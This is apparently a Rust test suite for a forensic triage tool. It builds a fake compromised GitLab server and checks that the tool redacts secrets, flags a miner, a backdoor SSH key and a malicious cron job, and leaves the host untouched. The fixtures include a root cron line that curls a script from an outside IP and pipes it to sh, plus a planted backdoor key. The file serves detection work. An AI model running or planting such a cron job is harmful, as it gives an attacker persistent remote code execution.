//! `triage_host` over a fake GitLab server: a root with planted secrets, persistence and logs,
//! and a fake `/proc` with a miner listening on 4444. What the bundle holds, what it must not
//! hold, what is flagged, and that the host is left exactly as it was.

use glir_triage::{Error, Kind, Level, Manifest, Options, Summary, triage_host, verify};
use rustix::fs::{Mode, OFlags};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

/// Secrets planted in gitlab.rb and the Rails YAML; none may reach the bundle.
const SECRETS: [&str; 13] = [
    "Db-Pa55word-7781",
    "smtp-Secret-4410",
    "RootInit-99120",
    "LdapBind-55021",
    "GhApp-Secret-3310",
    "RegistryHttp-8812",
    "ShellTok-1192",
    "OldDb-Commented-51",
    "AwsSecret-7734",
    "RedisUrlPass-3390",
    "DbYml-6623",
    "YmlKeyBase-1882",
    "MIIEsecretkeymaterial",
];
const SECRETS_JSON: &str = "SECRETS-JSON-CONTENT-d41d8";

const GITLAB_RB: &str = r#"external_url 'https://gitlab.example.test'
gitlab_rails['db_password'] = 'Db-Pa55word-7781'
gitlab_rails['smtp_password'] = "smtp-Secret-4410"
gitlab_rails['initial_root_password'] = 'RootInit-99120'
gitlab_rails['ldap_servers'] = YAML.load <<-'EOS'
  main:
    label: 'LDAP'
    bind_dn: 'cn=admin,dc=example,dc=test'
    password: 'LdapBind-55021'
EOS
gitlab_rails['omniauth_providers'] = [
  { name: 'github', app_id: 'gh-app-id', app_secret: 'GhApp-Secret-3310' }
]
registry['http_secret'] = 'RegistryHttp-8812'
gitlab_shell['secret_token'] = 'ShellTok-1192'
# gitlab_rails['db_password'] = 'OldDb-Commented-51'
gitlab_rails['redis_password'] = nil
nginx['ssl_certificate_key'] = "/etc/gitlab/ssl/gitlab.example.test.key"
gitlab_rails['backup_upload_connection'] = { 'provider' => 'AWS', 'aws_secret_access_key' => 'AwsSecret-7734' }
gitlab_rails['redis_sentinels_url'] = 'redis://:RedisUrlPass-3390@10.0.0.5:6379'
"#;

const KEY_BLOB: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
const SHELL: &str = "/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell";
const CRON_ATTACK: &str = "*/10 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh";

fn write(root: &Path, path: &str, content: impl AsRef<[u8]>) -> PathBuf {
    let full = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(&full, content).unwrap();
    full
}

fn set_mtime(path: &Path, ago: Duration) {
    let file = std::fs::File::options().write(true).open(path).unwrap();
    file.set_modified(SystemTime::now() - ago).unwrap();
}

/// A GitLab server's files, as a Linux package install lays them out.
fn fake_root(root: &Path) {
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/var/opt/gitlab:/bin/sh\ndana:x:1000:1000::/home/dana:/bin/bash\n",
    );
    write(root, "etc/gitlab/gitlab.rb", GITLAB_RB);
    write(
        root,
        "etc/gitlab/gitlab-secrets.json",
        format!("{{\"gitlab_rails\":{{\"secret_key_base\":\"{SECRETS_JSON}\"}}}}\n"),
    );
    write(
        root,
        "var/opt/gitlab/gitlab-rails/etc/database.yml",
        "production:\n  main:\n    adapter: postgresql\n    password: \"DbYml-6623\"\n    host: /var/opt/gitlab/postgresql\n",
    );
    write(
        root,
        "var/opt/gitlab/gitlab-rails/etc/secrets.yml",
        "production:\n  secret_key_base: YmlKeyBase-1882\n  openid_connect_signing_key: |\n    -----BEGIN RSA PRIVATE KEY-----\n    MIIEsecretkeymaterial\n    -----END RSA PRIVATE KEY-----\n",
    );
    write(
        root,
        "var/log/gitlab/nginx/gitlab_access.log",
        "203.0.113.9 - - [01/Dec/2026:10:00:00 +0000] \"GET /api/v4/users HTTP/1.1\" 200 512\n",
    );
    // Rotated logs are kept as they are: a gzip member, byte for byte.
    write(
        root,
        "var/log/gitlab/nginx/gitlab_access.log.1.gz",
        [
            0x1f, 0x8b, 0x08, 0x00, 1, 2, 3, 4, 0, 3, 0xde, 0xad, 0xbe, 0xef,
        ],
    );
    write(
        root,
        "var/log/gitlab/gitlab-rails/production_json.log",
        "{\"method\":\"GET\",\"path\":\"/admin\",\"status\":200}\n",
    );
    write(
        root,
        "var/log/gitlab/gitaly/current",
        "2026-12-01_10:00:00 gitaly started\n",
    );
    write(
        root,
        "var/log/gitlab/reconfigure/1700000000.log",
        "not a log triage takes\n",
    );
    write(
        root,
        "var/log/auth.log",
        "Dec  1 10:00:00 gitlab sshd[200]: Accepted publickey for root\n",
    );
    write(
        root,
        "var/log/auth.log.2.gz",
        [0x1f, 0x8b, 0x08, 0x00, 9, 9],
    );
    write(root, "var/log/dpkg.log", "not collected\n");
    let fifo = root.join("var/log/gitlab/gitaly/gitaly.fifo");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &fifo,
        rustix::fs::FileType::Fifo,
        Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    write(
        root,
        "etc/crontab",
        format!(
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n{CRON_ATTACK}\n"
        ),
    );
    write(
        root,
        "etc/cron.d/gitlab-backup",
        "0 2 * * * root /opt/gitlab/bin/gitlab-backup create CRON=1\n",
    );
    write(
        root,
        "root/.ssh/authorized_keys",
        format!("ssh-ed25519 {KEY_BLOB} admin@laptop\n"),
    );
    write(root, "root/.bashrc", "alias ll='ls -l'\n");
    write(
        root,
        "var/opt/gitlab/.ssh/authorized_keys",
        format!(
            "command=\"{SHELL} key-12\",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty ssh-ed25519 {KEY_BLOB} dana@example\nssh-ed25519 {KEY_BLOB} backdoor\n"
        ),
    );
    write(
        root,
        "etc/systemd/system/gitlab-runsvdir.service",
        "[Service]\nExecStart=/opt/gitlab/embedded/bin/runsvdir-start\n",
    );
    std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    symlink(
        "/etc/systemd/system/gitlab-runsvdir.service",
        root.join("etc/systemd/system/multi-user.target.wants/gitlab-runsvdir.service"),
    )
    .unwrap();
    write(
        root,
        "lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    );
    let old = write(root, "opt/gitlab/embedded/bin/old-tool", "#!/bin/sh\n");
    set_mtime(&old, Duration::from_secs(90 * 86_400));
    let new = write(
        root,
        "opt/gitlab/embedded/bin/new-tool",
        "#!/bin/sh\necho planted\n",
    );
    std::fs::set_permissions(&new, std::fs::Permissions::from_mode(0o755)).unwrap();
    write(
        root,
        "var/opt/gitlab/git-data/repositories/@hashed/ab/cd/x.git/HEAD",
        "ref: refs/heads/main\n",
    );
    write(
        root,
        "var/opt/gitlab/git-data/repositories/@hashed/ab/cd/x.git/objects/pack/p.pack",
        "PACK",
    );
}

/// 127.0.0.1 as `/proc/net/tcp` prints it: the address word in the host's byte order.
fn hex_v4(ip: [u8; 4], port: u16) -> String {
    format!("{:08X}:{port:04X}", u32::from_ne_bytes(ip))
}

fn tcp_line(
    slot: usize,
    local: ([u8; 4], u16),
    remote: ([u8; 4], u16),
    state: u8,
    inode: u64,
) -> String {
    format!(
        "{slot:4}: {} {} {state:02X} 00000000:00000000 00:00000000 00000000     0        0 {inode} 1 0000000000000000 100 0 0 10 0\n",
        hex_v4(local.0, local.1),
        hex_v4(remote.0, remote.1)
    )
}

struct FakeProcess<'a> {
    pid: u32,
    ppid: u32,
    comm: &'a str,
    cmdline: &'a [&'a str],
    exe: Option<&'a str>,
    sockets: &'a [u64],
}

fn fake_proc(proc: &Path) {
    let processes = [
        FakeProcess {
            pid: 1,
            ppid: 0,
            comm: "systemd",
            cmdline: &["/sbin/init"],
            exe: Some("/usr/lib/systemd/systemd"),
            sockets: &[],
        },
        FakeProcess {
            pid: 100,
            ppid: 1,
            comm: "nginx",
            cmdline: &[
                "nginx: master process /opt/gitlab/embedded/sbin/nginx",
                "-p",
                "/var/opt/gitlab/nginx",
            ],
            exe: Some("/opt/gitlab/embedded/sbin/nginx"),
            sockets: &[1001],
        },
        FakeProcess {
            pid: 200,
            ppid: 1,
            comm: "sshd",
            cmdline: &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
            exe: Some("/usr/sbin/sshd"),
            sockets: &[1002],
        },
        FakeProcess {
            pid: 300,
            ppid: 1,
            comm: "puma",
            cmdline: &[
                "puma 6.4.0 (unix:///var/opt/gitlab/gitlab-rails/sockets/gitlab.socket,tcp://127.0.0.1:8080) [gitlab-puma-worker]",
            ],
            exe: Some("/opt/gitlab/embedded/bin/ruby"),
            sockets: &[1003],
        },
        FakeProcess {
            pid: 400,
            ppid: 1,
            comm: "gitaly",
            cmdline: &[
                "/opt/gitlab/embedded/bin/gitaly",
                "/var/opt/gitlab/gitaly/config.toml",
            ],
            exe: Some("/opt/gitlab/embedded/bin/gitaly"),
            sockets: &[],
        },
        FakeProcess {
            pid: 500,
            ppid: 2,
            comm: "kworker/0:1",
            cmdline: &[],
            exe: None,
            sockets: &[],
        },
        FakeProcess {
            pid: 4242,
            ppid: 1,
            comm: "xmrig",
            cmdline: &["/tmp/.x/xmrig", "-o", "pool.example:3333"],
            exe: Some("/tmp/.x/xmrig (deleted)"),
            sockets: &[4444],
        },
    ];
    for p in processes {
        let dir = write(proc, &format!("{}/comm", p.pid), format!("{}\n", p.comm))
            .parent()
            .unwrap()
            .to_path_buf();
        let mut cmdline = p.cmdline.join("\0");
        if !cmdline.is_empty() {
            cmdline.push('\0');
        }
        std::fs::write(dir.join("cmdline"), cmdline).unwrap();
        std::fs::write(
            dir.join("status"),
            format!("Name:\t{}\nPPid:\t{}\nUid:\t0\t0\t0\t0\n", p.comm, p.ppid),
        )
        .unwrap();
        if let Some(exe) = p.exe {
            symlink(exe, dir.join("exe")).unwrap();
        }
        std::fs::create_dir_all(dir.join("fd")).unwrap();
        symlink("/dev/null", dir.join("fd/0")).unwrap();
        for (i, inode) in p.sockets.iter().enumerate() {
            symlink(
                format!("socket:[{inode}]"),
                dir.join(format!("fd/{}", i + 3)),
            )
            .unwrap();
        }
    }
    let header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
    let any = [0, 0, 0, 0];
    let tcp = [
        header.to_string(),
        tcp_line(0, (any, 443), (any, 0), 0x0A, 1001),
        tcp_line(1, (any, 22), (any, 0), 0x0A, 1002),
        tcp_line(2, ([127, 0, 0, 1], 8080), (any, 0), 0x0A, 1003),
        tcp_line(3, (any, 4444), (any, 0), 0x0A, 4444),
        // An established connection is not a listener.
        tcp_line(
            4,
            ([10, 0, 0, 2], 443),
            ([203, 0, 113, 9], 51000),
            0x01,
            1004,
        ),
    ]
    .concat();
    write(proc, "net/tcp", tcp);
    for table in ["tcp6", "udp", "udp6"] {
        write(proc, &format!("net/{table}"), header);
    }
}

struct Host {
    _dir: tempfile::TempDir,
    root: PathBuf,
    proc: PathBuf,
    out: PathBuf,
}

fn host() -> Host {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    let proc = dir.path().join("proc");
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    fake_root(&root);
    fake_proc(&proc);
    Host {
        _dir: dir,
        root,
        proc,
        out,
    }
}

fn options(host: &Host, name: &str) -> Options {
    Options {
        root: host.root.clone(),
        proc_dir: Some(host.proc.clone()),
        output: host.out.join(name),
        copy_to: None,
        since: jiff::Timestamp::now() - jiff::SignedDuration::from_hours(7 * 24),
        hash_max: 64 << 20,
        include_objects: false,
        operator: "tester@ci".to_string(),
        command_line: vec!["glir".into(), "triage".into(), "host".into()],
        tool_version: "test".to_string(),
    }
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// The bundle's members, decompressed.
fn members(bundle: &Path) -> (Vec<u8>, BTreeMap<String, Vec<u8>>) {
    let tar = zstd::decode_all(std::fs::File::open(bundle).unwrap()).unwrap();
    let mut archive = tar::Archive::new(tar.as_slice());
    let mut out = BTreeMap::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        out.insert(name, bytes);
    }
    (tar, out)
}

fn triage(host: &Host) -> Summary {
    triage_host(&options(host, "triage.tar.zst")).unwrap()
}

#[test]
fn the_bundle_verifies_and_its_manifest_hashes_every_file_as_it_is_on_disk() {
    let host = host();
    let summary = triage(&host);
    assert!(summary.sha256_file.exists());
    let report = verify(&summary.bundle).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
    assert_eq!(report.sha256, summary.sha256);
    let recorded = std::fs::read_to_string(&summary.sha256_file).unwrap();
    assert_eq!(recorded, format!("{}  triage.tar.zst\n", summary.sha256));

    let (_, members) = members(&summary.bundle);
    let manifest: Manifest = serde_json::from_slice(&members["manifest.json"]).unwrap();
    assert_eq!(manifest.files.len() as u64, summary.stats.files);
    for file in &manifest.files {
        let stored = &members[&file.member];
        assert_eq!(sha256(stored), file.sha256, "{}", file.path);
        if file.redacted.is_none() {
            let original =
                std::fs::read(host.root.join(file.path.trim_start_matches('/'))).unwrap();
            assert_eq!(sha256(&original), file.sha256, "{}", file.path);
            assert_eq!(original.len() as u64, file.meta.size, "{}", file.path);
        }
    }
    let paths: Vec<&str> = manifest.files.iter().map(|f| f.path.as_str()).collect();
    for expected in [
        "/var/log/gitlab/nginx/gitlab_access.log",
        "/var/log/gitlab/nginx/gitlab_access.log.1.gz",
        "/var/log/gitlab/gitlab-rails/production_json.log",
        "/var/log/gitlab/gitaly/current",
        "/var/log/auth.log",
        "/var/log/auth.log.2.gz",
        "/etc/gitlab/gitlab.rb",
        "/var/opt/gitlab/gitlab-rails/etc/database.yml",
        "/etc/crontab",
        "/etc/cron.d/gitlab-backup",
        "/root/.ssh/authorized_keys",
        "/var/opt/gitlab/.ssh/authorized_keys",
        "/etc/systemd/system/gitlab-runsvdir.service",
        "/root/.bashrc",
    ] {
        assert!(paths.contains(&expected), "{expected} not in {paths:?}");
    }
    for left_out in [
        "/var/log/dpkg.log",
        "/var/log/gitlab/reconfigure/1700000000.log",
        "/etc/gitlab/gitlab-secrets.json",
    ] {
        assert!(!paths.contains(&left_out), "{left_out} was copied");
    }
    // A rotated .gz goes in byte for byte, not decompressed.
    assert_eq!(
        members["var/log/gitlab/nginx/gitlab_access.log.1.gz"],
        std::fs::read(
            host.root
                .join("var/log/gitlab/nginx/gitlab_access.log.1.gz")
        )
        .unwrap()
    );
    // A FIFO is named, never opened (an open would block).
    let fifo = manifest
        .skipped
        .iter()
        .find(|s| s.path.ends_with("gitaly.fifo"))
        .unwrap();
    assert!(fifo.reason.contains("fifo"), "{fifo:?}");
    // The unit's symlink is listed with its target, not followed.
    let link = manifest
        .listed
        .iter()
        .find(|l| l.path.contains("multi-user.target.wants"))
        .unwrap();
    assert_eq!(
        link.link_target.as_deref(),
        Some("/etc/systemd/system/gitlab-runsvdir.service")
    );
    let vendor = manifest
        .listed
        .iter()
        .find(|l| l.path == "/lib/systemd/system/ssh.service")
        .unwrap();
    assert_eq!(
        vendor.sha256.as_deref(),
        Some(sha256(b"[Service]\nExecStart=/usr/sbin/sshd -D\n").as_str())
    );

    let acquisition = String::from_utf8(members["acquisition.jsonl"].clone()).unwrap();
    let start: serde_json::Value =
        serde_json::from_str(acquisition.lines().next().unwrap()).unwrap();
    assert_eq!(start["operator"], "tester@ci");
    assert_eq!(start["command_line"][1], "triage");
    assert!(acquisition.contains("\"step\":\"logs\""), "{acquisition}");
    assert!(acquisition.contains("journal"), "{acquisition}");
}

#[test]
fn no_secret_of_the_configuration_reaches_the_bundle() {
    let host = host();
    let summary = triage(&host);
    let (tar, members) = members(&summary.bundle);
    let text = String::from_utf8_lossy(&tar);
    for secret in SECRETS.iter().chain([&SECRETS_JSON]) {
        assert!(!text.contains(secret), "{secret} is in the bundle");
    }
    let gitlab_rb = String::from_utf8(members["etc/gitlab/gitlab.rb"].clone()).unwrap();
    assert_eq!(gitlab_rb.lines().count(), GITLAB_RB.lines().count());
    // Names stay, values become fingerprints a second triage can be compared with.
    let db = format!(
        "gitlab_rails['db_password'] = '[redacted {}]'",
        glir_redact::fingerprint("Db-Pa55word-7781")
    );
    assert!(gitlab_rb.contains(&db), "{gitlab_rb}");
    assert!(
        gitlab_rb.contains("bind_dn: 'cn=admin,dc=example,dc=test'"),
        "{gitlab_rb}"
    );
    assert!(
        gitlab_rb
            .contains("nginx['ssl_certificate_key'] = \"/etc/gitlab/ssl/gitlab.example.test.key\""),
        "{gitlab_rb}"
    );
    assert!(gitlab_rb.contains("external_url 'https://gitlab.example.test'"));

    let manifest: Manifest = serde_json::from_slice(&members["manifest.json"]).unwrap();
    let rb = manifest
        .files
        .iter()
        .find(|f| f.path == "/etc/gitlab/gitlab.rb")
        .unwrap();
    let redaction = rb.redacted.as_ref().unwrap();
    assert_eq!(redaction.original_sha256, sha256(GITLAB_RB.as_bytes()));
    assert_eq!(redaction.values, 10, "{gitlab_rb}");
    // gitlab-secrets.json: described with its hash, never copied.
    let secrets = std::fs::read(host.root.join("etc/gitlab/gitlab-secrets.json")).unwrap();
    let listed = manifest
        .listed
        .iter()
        .find(|l| l.path == "/etc/gitlab/gitlab-secrets.json")
        .unwrap();
    assert_eq!(listed.sha256.as_deref(), Some(sha256(&secrets).as_str()));
    assert_eq!(listed.meta.size, secrets.len() as u64);
    assert!(listed.reason.contains("never copied"), "{}", listed.reason);
    assert!(!members.keys().any(|m| m.contains("gitlab-secrets")));
}

#[test]
fn the_miner_its_port_the_backdoor_key_and_the_cron_job_are_flagged_and_gitlab_is_not() {
    let host = host();
    let summary = triage(&host);
    let about = |kind: Kind, text: &str| {
        summary
            .findings
            .iter()
            .filter(|f| f.kind == kind && f.subject.contains(text))
            .collect::<Vec<_>>()
    };
    let miner = about(Kind::Process, "(xmrig)");
    assert_eq!(miner.len(), 1, "{:#?}", summary.findings);
    assert_eq!(miner[0].level, Level::High);
    let reasons = miner[0].reasons.join("; ");
    assert!(reasons.contains("deleted"), "{reasons}");
    assert!(reasons.contains("/tmp/"), "{reasons}");
    for known in [
        "(nginx)",
        "(sshd)",
        "(puma)",
        "(gitaly)",
        "(kworker",
        "(systemd)",
    ] {
        assert!(
            about(Kind::Process, known).is_empty(),
            "{known}: {:#?}",
            summary.findings
        );
    }
    let port = about(Kind::Listener, ":4444");
    assert_eq!(port.len(), 1, "{:#?}", summary.findings);
    assert_eq!(port[0].level, Level::High);
    assert!(port[0].evidence.contains("xmrig"), "{:?}", port[0]);
    for known in [":443", ":22", ":8080"] {
        assert!(
            about(Kind::Listener, known).is_empty(),
            "{known}: {:#?}",
            summary.findings
        );
    }
    let key = about(Kind::AuthorizedKey, "/var/opt/gitlab/.ssh/authorized_keys");
    assert_eq!(key.len(), 1, "{:#?}", summary.findings);
    assert_eq!(key[0].subject, "/var/opt/gitlab/.ssh/authorized_keys:2");
    assert_eq!(key[0].level, Level::High);
    let cron = about(Kind::Cron, "/etc/crontab");
    assert_eq!(cron.len(), 1, "{:#?}", summary.findings);
    assert_eq!(cron[0].subject, "/etc/crontab:3");
    assert_eq!(cron[0].evidence, CRON_ATTACK);
    assert!(about(Kind::Cron, "/etc/cron.d").is_empty());
    let live = summary.live.as_ref().unwrap();
    assert_eq!((live.processes, live.listeners), (7, 4));

    let (_, members) = members(&summary.bundle);
    let findings: serde_json::Value = serde_json::from_slice(&members["findings.json"]).unwrap();
    assert_eq!(
        findings["findings"].as_array().unwrap().len(),
        summary.findings.len()
    );
    let listeners: serde_json::Value =
        serde_json::from_slice(&members["live/listeners.json"]).unwrap();
    let miner_port = listeners
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["port"] == 4444)
        .unwrap();
    assert_eq!(miner_port["pid"], 4242);
}

#[test]
fn recent_files_are_listed_with_hashes_and_object_stores_are_skipped() {
    let host = host();
    let summary = triage(&host);
    let (_, members) = members(&summary.bundle);
    let recent: Vec<serde_json::Value> = String::from_utf8(members["recent.jsonl"].clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(recent.len() as u64, summary.recent);
    let new_tool = recent
        .iter()
        .find(|r| r["path"] == "/opt/gitlab/embedded/bin/new-tool")
        .unwrap();
    assert_eq!(new_tool["sha256"], sha256(b"#!/bin/sh\necho planted\n"));
    assert_eq!(new_tool["mode"], "0755");
    assert_eq!(new_tool["owner"], "root");
    assert!(
        recent
            .iter()
            .any(|r| r["path"] == "/var/opt/gitlab/git-data/repositories/@hashed/ab/cd/x.git/HEAD")
    );
    assert!(
        !recent
            .iter()
            .any(|r| r["path"].as_str().unwrap().contains("/objects/")),
        "{recent:#?}"
    );
    assert!(
        summary
            .findings
            .iter()
            .any(|f| f.kind == Kind::RecentExecutable && f.subject.ends_with("new-tool"))
    );

    // A window starting tomorrow holds nothing.
    let mut later = options(&host, "later.tar.zst");
    later.since = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(24);
    assert_eq!(triage_host(&later).unwrap().recent, 0);
}

/// Every path under `dir` with its type, size, mode, owner, times (access time included) and
/// content hash, read without touching access times.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(path) = todo.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        let content = if meta.is_file() {
            let fd =
                rustix::fs::open(&path, OFlags::RDONLY | OFlags::NOATIME, Mode::empty()).unwrap();
            let mut bytes = Vec::new();
            std::fs::File::from(fd).read_to_end(&mut bytes).unwrap();
            sha256(&bytes)
        } else if meta.is_symlink() {
            // readlink(2) has no O_NOATIME: the link's own access time is left out of the
            // comparison (reading it here would move it too).
            let target = std::fs::read_link(&path).unwrap().display().to_string();
            out.insert(
                path,
                format!("{:o} {} -> {target}", meta.mode(), meta.ctime()),
            );
            continue;
        } else if meta.is_dir() {
            let fd = rustix::fs::open(
                &path,
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOATIME,
                Mode::empty(),
            )
            .unwrap();
            let mut dir = rustix::fs::Dir::new(fd).unwrap();
            while let Some(entry) = dir.read() {
                let name = entry.unwrap().file_name().to_string_lossy().into_owned();
                if name != "." && name != ".." {
                    todo.push(path.join(name));
                }
            }
            String::new()
        } else {
            String::from("special")
        };
        out.insert(
            path,
            format!(
                "{:o} {} {}:{} m{}.{} a{}.{} c{}.{} {content}",
                meta.mode(),
                meta.len(),
                meta.uid(),
                meta.gid(),
                meta.mtime(),
                meta.mtime_nsec(),
                meta.atime(),
                meta.atime_nsec(),
                meta.ctime(),
                meta.ctime_nsec()
            ),
        );
    }
    out
}

/// Access times set before modification times: any plain read now would move them (relatime).
fn age_access_times(dir: &Path) {
    let mut todo = vec![dir.to_path_buf()];
    while let Some(path) = todo.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.is_symlink() || !(meta.is_file() || meta.is_dir()) {
            continue;
        }
        if meta.is_dir() {
            todo.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
        }
        let file = std::fs::File::open(&path).unwrap();
        // Directories listed above get their old access time back here, after the listing.
        let old = meta.modified().unwrap() - Duration::from_secs(2 * 86_400);
        file.set_times(std::fs::FileTimes::new().set_accessed(old))
            .unwrap();
    }
}

#[test]
fn the_host_is_left_exactly_as_it_was() {
    let host = host();
    age_access_times(&host.root);
    let before = snapshot(&host.root);
    triage(&host);
    let after = snapshot(&host.root);
    let changed: Vec<_> = before
        .iter()
        .filter(|(p, s)| after.get(*p) != Some(*s))
        .map(|(p, _)| p)
        .collect();
    assert!(changed.is_empty(), "changed: {changed:?}");
    assert_eq!(before.len(), after.len());
}

#[test]
fn a_changed_byte_fails_verification_naming_what_differs() {
    let host = host();
    let summary = triage(&host);

    // A byte changed in the compressed file: its hash no longer matches.
    let flipped = host.out.join("flipped.tar.zst");
    let mut bytes = std::fs::read(&summary.bundle).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    std::fs::write(&flipped, &bytes).unwrap();
    std::fs::copy(
        &summary.sha256_file,
        host.out.join("flipped.tar.zst.sha256"),
    )
    .unwrap();
    let report = verify(&flipped).unwrap();
    assert!(!report.is_ok());
    assert!(
        report
            .problems
            .iter()
            .any(|p| p.contains("bundle: its SHA-256 is")),
        "{:?}",
        report.problems
    );

    // A byte changed inside a log, recompressed with a fresh .sha256: the manifest names it.
    let (_, members) = members(&summary.bundle);
    let tar = zstd::decode_all(std::fs::File::open(&summary.bundle).unwrap()).unwrap();
    let mut archive = tar::Archive::new(tar.as_slice());
    let mut builder = tar::Builder::new(Vec::new());
    for entry in archive.entries().unwrap() {
        let entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mut content = members[&name].clone();
        if name == "var/log/gitlab/nginx/gitlab_access.log" {
            content[0] ^= 0x01;
        }
        let mut header = entry.header().clone();
        builder
            .append_data(&mut header, &name, content.as_slice())
            .unwrap();
    }
    let rebuilt = zstd::encode_all(builder.into_inner().unwrap().as_slice(), 3).unwrap();
    let edited = host.out.join("edited.tar.zst");
    std::fs::write(&edited, &rebuilt).unwrap();
    std::fs::write(
        host.out.join("edited.tar.zst.sha256"),
        format!("{}  edited.tar.zst\n", sha256(&rebuilt)),
    )
    .unwrap();
    let report = verify(&edited).unwrap();
    assert_eq!(report.problems.len(), 1, "{:?}", report.problems);
    assert!(
        report.problems[0].starts_with("/var/log/gitlab/nginx/gitlab_access.log: the bundle holds"),
        "{:?}",
        report.problems
    );
}

#[test]
fn the_write_once_copy_is_read_only_and_never_overwritten() {
    let host = host();
    let copies = host.out.join("worm");
    std::fs::create_dir_all(&copies).unwrap();
    let mut opts = options(&host, "triage.tar.zst");
    opts.copy_to = Some(copies.clone());
    let summary = triage_host(&opts).unwrap();
    let copy = summary.copy.as_ref().unwrap();
    assert!(copy.verified);
    assert_eq!(
        std::fs::read(&copy.bundle).unwrap(),
        std::fs::read(&summary.bundle).unwrap()
    );
    for path in [&copy.bundle, &copy.sha256_file, &summary.bundle] {
        let mode = std::fs::metadata(path).unwrap().permissions().mode();
        assert_eq!(mode & 0o222, 0, "{}: {mode:o}", path.display());
    }
    assert!(verify(&copy.bundle).unwrap().is_ok());

    // The same name again, from another output directory: refused before anything is read.
    let other = host.out.join("second");
    std::fs::create_dir_all(&other).unwrap();
    opts.output = other.join("triage.tar.zst");
    let before = std::fs::read(&copy.bundle).unwrap();
    match triage_host(&opts) {
        Err(Error::CopyExists(path)) => assert_eq!(path, copy.bundle),
        other => panic!("expected CopyExists, got {other:?}"),
    }
    assert_eq!(std::fs::read(&copy.bundle).unwrap(), before);
    assert!(!other.join("triage.tar.zst").exists());
    // The bundle itself is written once too.
    opts.copy_to = None;
    opts.output = summary.bundle.clone();
    assert!(matches!(triage_host(&opts), Err(Error::OutputExists(_))));
}

#[test]
fn an_output_inside_the_root_or_a_missing_root_is_refused() {
    let host = host();
    let mut opts = options(&host, "x.tar.zst");
    opts.output = host.root.join("var/tmp/x.tar.zst");
    std::fs::create_dir_all(host.root.join("var/tmp")).unwrap();
    let err = triage_host(&opts).unwrap_err();
    assert!(matches!(err, Error::OutputInsideCollected { .. }), "{err}");
    assert!(!opts.output.exists());

    let mut opts = options(&host, "y.tar.zst");
    opts.root = host.out.join("no-such-image");
    let err = triage_host(&opts).unwrap_err();
    assert!(err.to_string().contains("no-such-image"), "{err}");
}
